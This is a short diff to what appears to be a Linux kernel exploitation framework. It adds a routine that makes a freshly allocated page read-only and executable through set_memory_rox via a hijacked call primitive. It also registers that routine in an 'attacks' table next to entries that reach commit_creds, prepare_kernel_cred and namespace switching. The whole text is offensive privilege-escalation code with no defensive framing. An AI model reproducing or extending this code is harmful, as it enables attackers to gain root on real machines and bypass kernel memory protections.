@@ -3842,6 +3842,22 @@ static int come_to_memory(struct task_struct *task, size_t way)
 	return err ?: commit_kernel(task, 0);
 }
 
+static int come_to_code(struct task_struct *task, size_t way)
+{
+	void *const page = vmalloc(PAGE_SIZE);
+	int err = -ENOMEM;
+
+	if (!set_memory_rox_at)
+		err = -ENOENT;
+	else if (page)
+		err = come_to(way, set_memory_rox_at, (u64)page, 1, 0);
+	/* Or nobody could use this memory again */
+	if (!err)
+		err = set_page(set_memory_rw_at, page);
+	vfree(page);
+	return err ?: commit_kernel(task, 0);
+}
+
 /* What is there is what it was */
 static int come_to_poke(struct task_struct *task, size_t way)
 {
@@ -4697,6 +4713,7 @@ static const struct attack attacks[] = {
 	FLOW("chain", BY_CHAIN, switch, "switch_task_namespaces"),
 	FLOW("chain", BY_CHAIN, root, "set_fs_root"),
 	FLOW("chain", BY_CHAIN, prepare, "prepare_kernel_cred"),
+	FLOW("chain", BY_CHAIN, code, "set_memory_rox"),
 	FLOW("stranger", BY_STRANGER, commit, "commit_creds"),
 	FLOW("stranger", BY_STRANGER, override, "override_creds"),
 	FLOW("stranger", BY_STRANGER, switch, "switch_task_namespaces"),
